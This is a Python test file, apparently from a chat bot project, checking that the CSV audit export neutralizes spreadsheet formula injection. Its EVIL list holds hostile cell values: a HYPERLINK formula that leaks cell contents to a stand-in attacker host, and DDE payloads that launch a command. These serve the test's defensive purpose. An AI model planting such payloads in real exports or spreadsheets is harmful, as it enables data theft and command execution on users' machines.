"""Issue #16 item 8: `python -m bot audit --format csv` neutralizes formula cells (OWASP)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

from bot.db import repo
from bot.db.engine import create_engine, create_session_factory
from bot.db.migrate import upgrade
from tests.support import cli_env, run_cli

EVIL = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tTAB=1+1",
    "\r=1+1",
    "\uff1d1+1",  # full-width equals sign
]


async def test_formula_cells_are_exported_as_text(tmp_path) -> None:
    engine = create_engine(f"sqlite+aiosqlite:///{tmp_path / 'bot.db'}")
    await upgrade(engine)
    now = datetime.now(UTC)
    async with create_session_factory(engine)() as session, session.begin():
        for number, evil in enumerate(EVIL):
            await repo.add_audit(
                session,
                at=now,
                team_id="T1",
                actor=evil,
                action="map_email",
                target=evil,
                detail={"n": number},
            )
        await repo.add_audit(session, at=now, team_id="T1", actor="U1", action="link", target="ok")
    await engine.dispose()
    env = cli_env(tmp_path)
    result = run_cli(["audit", "--since", "7d", "--format", "csv"], env, tmp_path)
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout, newline="")))
    assert len(rows) == len(EVIL) + 1
    for row in rows:
        for name in ("actor", "target"):
            assert not row[name].startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d")), row
    evil_targets = sorted(r["target"] for r in rows if r["action"] == "map_email")
    # The text is kept, as text (the CLI's stdout is read in text mode: CR arrives as LF).
    assert evil_targets == sorted("'" + e.replace("\r", "\n") for e in EVIL)
    assert [r["target"] for r in rows if r["action"] == "link"] == ["ok"]
